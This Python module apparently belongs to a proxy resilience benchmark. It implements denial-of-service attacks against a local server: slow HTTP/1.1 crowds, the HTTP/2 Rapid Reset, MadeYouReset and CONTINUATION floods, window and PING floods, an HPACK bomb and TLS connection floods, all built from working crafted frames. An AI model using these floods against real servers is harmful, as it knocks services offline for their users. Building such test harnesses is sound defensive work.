"""The attacks of attacks.py: each a function of (target, seconds, tally) that runs in a process of its own.

`target` has `clear` and `tls` (ports), `flood` (the port and whether it is TLS that attacks by HTTP/2 go to) and `folder`.
What they send is made beforehand as far as it goes, at an even pace, and they stand behind everybody else for the
processors: what is measured is the proxy, not who wins a core.
"""
import asyncio, collections, functools, os, re, shutil, socket, ssl, subprocess, time

import frames
from steady import trusting

# Of the slow attacks, as the issue has it.
CROWD = 2000
IDLE_TLS, IDLE_TLS_RATE = 5000, 200
FLOODERS = 32
# From one burst of a flood to the next, and from its end to the next connection, in seconds.
TURN, RECONNECT = 0.01, 0.2


def dial(port, receives=None):
    sock = socket.socket()
    if receives:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receives)
    sock.setblocking(False)
    sock.connect_ex(("127.0.0.1", port))
    return sock


class Crowd:
    """Many plain connections: each says `first(number)` and then, every `interval` seconds, `more()`; or reads `reads` bytes."""

    def __init__(self, port, tally, first, more=None, interval=2, reads=0, reopens=False, receives=None):
        self.port, self.tally, self.first, self.more, self.interval = port, tally, first, more, interval
        self.reads, self.reopens, self.receives = reads, reopens, receives
        self.members = {}
        self.number = 0

    def run(self, count, rate, seconds):
        end = began = time.monotonic()
        end += seconds
        try:
            while (now := time.monotonic()) < end:
                wanted = min(count, int((now - began) * rate) + 1)
                while (len(self.members) if self.reopens else self.number) < wanted:
                    self.open(now)
                for sock in list(self.members):
                    if self.members[sock][0] <= now:
                        self.turn(sock, now)
                time.sleep(0.05)
            self.tally["held"] = len(self.members)
        finally:
            for sock in self.members:
                sock.close()

    def open(self, now):
        try:
            sock = dial(self.port, self.receives)
        except OSError:
            self.tally["refused"] += 1
            return
        self.members[sock] = [now + 0.05, self.first(self.number)]
        self.number += 1
        self.tally["opened"] += 1

    def turn(self, sock, now):
        due, first = self.members[sock]
        try:
            if first:
                sock.send(first)
                self.members[sock][1] = b""
            elif self.more:
                sock.send(self.more())
            if self.reads or not self.more:
                if not sock.recv(self.reads or 65536):
                    raise ConnectionError
            elif self.more:
                # an answer to what is not whole yet says that the proxy has had enough
                sock.recv(65536)
                raise ConnectionError
        except BlockingIOError:
            pass
        except OSError:
            self.tally["cut"] += 1
            self.members.pop(sock).clear()
            sock.close()
            return
        self.members[sock][0] = now + self.interval


def slowhttptest(letter, rate, *more):
    """By slowhttptest(1), `rate` connections a second, where it is installed; else by our own sockets, 500 a second."""
    def attack(target, seconds, tally):
        if not shutil.which("slowhttptest"):
            return SLOW[letter](target, seconds, tally)
        path = os.path.join(target.folder, "slowhttptest.log")
        command = ["slowhttptest", f"-{letter}", "-c", str(CROWD), "-r", str(rate), "-l", str(int(seconds)), "-p", "3", *more,
                   "-u", f"http://127.0.0.1:{target.clear}/{'bytes/1000000' if letter == 'X' else 'echo'}"]
        with open(path, "wb") as log:
            process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=log, stderr=log)
            try:
                process.wait(seconds + 5)
            except subprocess.TimeoutExpired:
                pass
            finally:
                if process.poll() is None:
                    process.kill()
                    process.wait()
        with open(path, errors="replace") as log:
            said = re.sub(r"\x1b\[[0-9;]*m", "", log.read())
        # the counts of each five seconds; the most that were connected at once, and what had been closed in the end
        counts = {name: [int(number) for number in re.findall(rf"^{name}:\s+(\d+)", said, re.M)] for name in ("connected", "closed", "error")}
        tally["opened"] = max(counts["connected"], default=0)
        tally["cut"] = max(counts["closed"], default=0)

    return attack


def slow_headers(target, seconds, tally):
    Crowd(target.clear, tally, lambda _: b"GET /echo HTTP/1.1\r\nHost: bench\r\nX-A: b\r\n", lambda: b"X-B: c\r\n").run(CROWD, 500, seconds)


def slow_body(target, seconds, tally):
    Crowd(target.clear, tally, lambda _: b"POST /echo HTTP/1.1\r\nHost: bench\r\nContent-Length: 8192\r\n\r\na=b", lambda: b"&c=d").run(CROWD, 500, seconds)


def slow_read(target, seconds, tally):
    ask = b"GET /bytes/1000000 HTTP/1.1\r\nHost: bench\r\n\r\n" * 3
    Crowd(target.clear, tally, lambda _: ask, reads=32, interval=3, receives=1024).run(CROWD, 500, seconds)


SLOW = {"H": slow_headers, "B": slow_body, "X": slow_read}


class Flooder(asyncio.Protocol):
    """One connection of a flood, made again when it has ended."""

    def __init__(self, tally, reads=True):
        self.tally, self.reads = tally, reads
        self.is_open, self.is_ours, self.can_write = True, False, True
        self.ended = asyncio.get_running_loop().create_future()

    def connection_made(self, transport):
        self.transport = transport
        self.tally["opened"] += 1
        if not self.reads:
            transport.pause_reading()

    def pause_writing(self):
        self.can_write = False

    def resume_writing(self):
        self.can_write = True

    def connection_lost(self, error):
        self.is_open = False
        self.tally["cut"] += not self.is_ours
        if not self.ended.done():
            self.ended.set_result(None)

    def leave(self):
        self.is_ours = True
        self.transport.abort()


async def flood(target, seconds, tally, first, burst, reads=True, connections=FLOODERS, turn=TURN):
    """`burst(number)` is what a connection sends at its turn of that number, after `first`; bytes, and what they count for."""
    port, is_tls = target.flood
    context = trusting(None, "h2") if is_tls else None
    loop = asyncio.get_running_loop()
    end = loop.time() + seconds

    async def one(place):
        # not all at once: what is looked for is what lasts
        await asyncio.sleep(seconds / 4 * place / connections)
        while loop.time() < end:
            try:
                _, flooder = await loop.create_connection(lambda: Flooder(tally, reads), "127.0.0.1", port, ssl=context)
            except (OSError, asyncio.TimeoutError):
                tally["refused"] += 1
                await asyncio.sleep(RECONNECT)
                continue
            flooder.transport.write(frames.PREFACE + first)
            number = 0
            while flooder.is_open and loop.time() < end:
                # a socket that takes no more is part of some attacks; the paused reader learns of the end by writing
                if flooder.can_write:
                    data, count = burst(number)
                    number += 1
                    if data:
                        flooder.transport.write(data)
                        tally["frames"] += count
                await asyncio.sleep(turn)
            if flooder.is_open:
                tally["held"] += 1
                flooder.leave()
            else:
                await asyncio.sleep(RECONNECT)

    await asyncio.gather(*(one(place) for place in range(connections)))


def by_http2(first, burst, **how):
    def attack(target, seconds, tally):
        asyncio.run(flood(target, seconds, tally, first, burst, **how))

    return attack


GET = frames.head(b"/echo")
SLOW_GET = frames.head(b"/slow/1000")
# 1 MB each: what is not read of it must not gather in the proxy
LARGE = frames.head(b"/bytes/1000000")
POST = frames.head(b"/echo", b"POST")
START = frames.settings()
END = frames.END_HEADERS | frames.END_STREAM
HEADERS, CONTINUATION, DATA = frames.HEADERS, frames.CONTINUATION, frames.DATA


@functools.cache
def rapid_reset(number):
    """CVE-2023-44487: requests that are taken back at once, so that they never count as open."""
    streams = range(number * 100 + 1, number * 100 + 101, 2)
    return b"".join(frames.frame(HEADERS, END, stream, GET) + frames.reset(stream) for stream in streams), 100


@functools.cache
def reset_later(number):
    """The same, but each request has reached its agent by the time that it is taken back."""
    streams = range(number // 2 * 100 + 1, number // 2 * 100 + 101, 2)
    if number % 2:
        return b"".join(frames.reset(stream) for stream in streams), 50
    return b"".join(frames.frame(HEADERS, END, stream, SLOW_GET) for stream in streams), 50


@functools.cache
def made_to_reset(number):
    """CVE-2025-8671: requests that the server must take back itself: a window of none is added to."""
    streams = range(number * 100 + 1, number * 100 + 101, 2)
    return b"".join(frames.frame(HEADERS, END, stream, GET) + frames.window_update(stream, 0) for stream in streams), 100


FIELD = b"\x00" + frames.text(b"x-more") + frames.text(b"a" * 1000)


@functools.cache
def continuations(number):
    """CVE-2024-27316: a head that never ends."""
    begin = frames.frame(HEADERS, frames.END_STREAM, 1, GET) if number == 0 else b""
    return begin + frames.frame(CONTINUATION, 0, 1, FIELD * 12) * 4, 4


@functools.cache
def empty_continuations(number):
    begin = frames.frame(HEADERS, frames.END_STREAM, 1, GET) if number == 0 else b""
    return begin + frames.frame(CONTINUATION, 0, 1) * 400, 400


def same(data, count):
    """One burst again and again, in this many frames."""
    return lambda number: (data, count)


@functools.cache
def empty_data(number):
    begin = frames.frame(HEADERS, frames.END_HEADERS, 1, POST) if number == 0 else b""
    return begin + frames.frame(DATA, 0, 1) * 400, 400


STREAMS = range(1, 200, 2)
ASKED = b"".join(frames.frame(HEADERS, END, stream, LARGE) for stream in STREAMS)
DRIPS = b"".join(frames.window_update(stream, 1) for stream in STREAMS)


@functools.cache
def window_drip(number):
    return (ASKED if number == 0 else DRIPS), 100


@functools.cache
def window_toggle(number):
    """Each change of the initial window is a change of every stream's (RFC 9113, 6.9.2)."""
    pair = frames.settings(INITIAL_WINDOW=frames.MOST_WINDOW - 65535) + frames.settings(INITIAL_WINDOW=0)
    return (ASKED if number == 0 else pair * 100), 100 if number == 0 else 200


def window_hold(number):
    return (ASKED, 100) if number == 0 else (b"", 0)


# One field of 4,000 bytes that fills the dynamic table, then a byte for each time that it is meant: 48 MB in 16 KB.
BOMB = GET + b"\x40" + frames.text(b"x-b") + frames.text(b"a" * 4000)
# 16,000 empty cookies of a byte each
CRUMBS = GET + b"\xa0" * 16000


@functools.cache
def hpack_bomb(number):
    if number == 0:
        return frames.frame(HEADERS, END, 1, BOMB + b"\xbe" * 12000), 1
    return frames.frame(HEADERS, END, 2 * number + 1, (GET + b"\xbe" * 16000) if number % 2 else CRUMBS), 1


def hello(name="localhost"):
    """The first bytes of a handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        trusting(None, "h2", "http/1.1").wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def half_open(target, seconds, tally):
    """A third says nothing, a third half a ClientHello, a third a whole one and then nothing."""
    whole = hello()
    says = (b"", whole[:len(whole) // 2], whole)
    Crowd(target.tls, tally, lambda number: says[number % 3], interval=1, reopens=True).run(CROWD, 500, seconds)


def handshakes(target, seconds, tally):
    """Full handshakes, 300 a second, each left as soon as it is whole."""
    async def run():
        loop, context = asyncio.get_running_loop(), trusting(None, "http/1.1")
        began, end = loop.time(), loop.time() + seconds
        room = asyncio.Semaphore(100)

        async def one():
            async with room:
                try:
                    _, flooder = await loop.create_connection(lambda: Flooder(tally), "127.0.0.1", target.tls, ssl=context)
                    flooder.leave()
                except (OSError, asyncio.TimeoutError):
                    tally["refused"] += 1

        tasks, count = set(), 0
        while loop.time() < end:
            while count < (loop.time() - began) * 300:
                count += 1
                if len(tasks) < 1000:
                    task = loop.create_task(one())
                    tasks.add(task)
                    task.add_done_callback(tasks.discard)
            await asyncio.sleep(TURN)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    asyncio.run(run())


def idle_tls(target, seconds, tally):
    """So many connections are made, 200 a second, each asks once, and then they are held for so many seconds."""
    async def run():
        loop, context, kept = asyncio.get_running_loop(), trusting(None, "http/1.1"), []

        async def one(number):
            await asyncio.sleep(number / IDLE_TLS_RATE)
            try:
                _, flooder = await loop.create_connection(lambda: Flooder(tally), "127.0.0.1", target.tls, ssl=context, ssl_handshake_timeout=30)
                # who has never asked anything is cut when the time for a head is over
                flooder.transport.write(b"GET /bytes/10 HTTP/1.1\r\nHost: bench\r\n\r\n")
                kept.append(flooder)
            except (OSError, asyncio.TimeoutError):
                tally["refused"] += 1

        await asyncio.gather(*(one(number) for number in range(IDLE_TLS)))
        await asyncio.sleep(seconds)
        tally["held"] = sum(flooder.is_open for flooder in kept)
        for flooder in kept:
            if flooder.is_open:
                flooder.leave()
        await asyncio.sleep(0.2)

    asyncio.run(run())


def descriptors(target, seconds, tally):
    """Clients that each ask once, and keep the connection, whether or not they are answered; who is cut comes again."""
    Crowd(target.clear, tally, lambda _: b"GET /bytes/10 HTTP/1.1\r\nHost: bench\r\n\r\n", interval=0.2, reopens=True).run(500, 500, seconds)


# An attack: who does it, over what the honest load goes meanwhile, what the proxy must be able to do for it, the most
# descriptors that the proxy may have.
Attack = collections.namedtuple("Attack", "run honest needs descriptors", defaults=(0,))
HTTP1, TLS, HTTP2 = (("http1",), ()), (("http1", "tls"), ("tls",)), (("http1", "h2"), ("h2",))

ATTACKS = {
    # as the examples of slowhttptest's manual, but for the 110 s that slow-body waits there
    "slow-headers": Attack(slowhttptest("H", 200, "-i", "10", "-x", "24"), *HTTP1),
    "slow-body": Attack(slowhttptest("B", 200, "-i", "10", "-s", "8192", "-x", "10"), *HTTP1),
    "slow-read": Attack(slowhttptest("X", 200, "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"), *HTTP1),
    # and in more of a hurry: a quarter of the crowd in each second, all of them together every two or three
    "hasty-headers": Attack(slowhttptest("H", 500, "-i", "2", "-x", "24"), *HTTP1),
    "hasty-body": Attack(slowhttptest("B", 500, "-i", "2", "-s", "8192", "-x", "10"), *HTTP1),
    "hasty-read": Attack(slowhttptest("X", 500, "-w", "512", "-y", "1024", "-n", "3", "-z", "32", "-k", "3"), *HTTP1),
    "rapid-reset": Attack(by_http2(START, rapid_reset), *HTTP2),
    "reset-later": Attack(by_http2(START, reset_later), *HTTP2),
    "made-to-reset": Attack(by_http2(START, made_to_reset), *HTTP2),
    "continuation": Attack(by_http2(START, continuations), *HTTP2),
    "continuation-empty": Attack(by_http2(START, empty_continuations), *HTTP2),
    # those who ask for answers and do not read them
    "ping": Attack(by_http2(START, same(frames.frame(frames.PING, 0, 0, b"12345678") * 400, 400), reads=False), *HTTP2),
    "settings": Attack(by_http2(START, same(frames.settings(ENABLE_PUSH=0) * 400, 400), reads=False), *HTTP2),
    "empty-data": Attack(by_http2(START, empty_data), *HTTP2),
    "window-hold": Attack(by_http2(frames.settings(INITIAL_WINDOW=0), window_hold), *HTTP2),
    "window-drip": Attack(by_http2(frames.settings(INITIAL_WINDOW=1), window_drip, turn=0.05), *HTTP2),
    "window-toggle": Attack(by_http2(frames.settings(INITIAL_WINDOW=0), window_toggle, reads=False), *HTTP2),
    "hpack-bomb": Attack(by_http2(START, hpack_bomb), *HTTP2),
    "tls-idle": Attack(idle_tls, *TLS),
    "tls-handshakes": Attack(handshakes, *TLS),
    "tls-half-open": Attack(half_open, *TLS),
    "descriptors": Attack(descriptors, *HTTP1, 256),
}
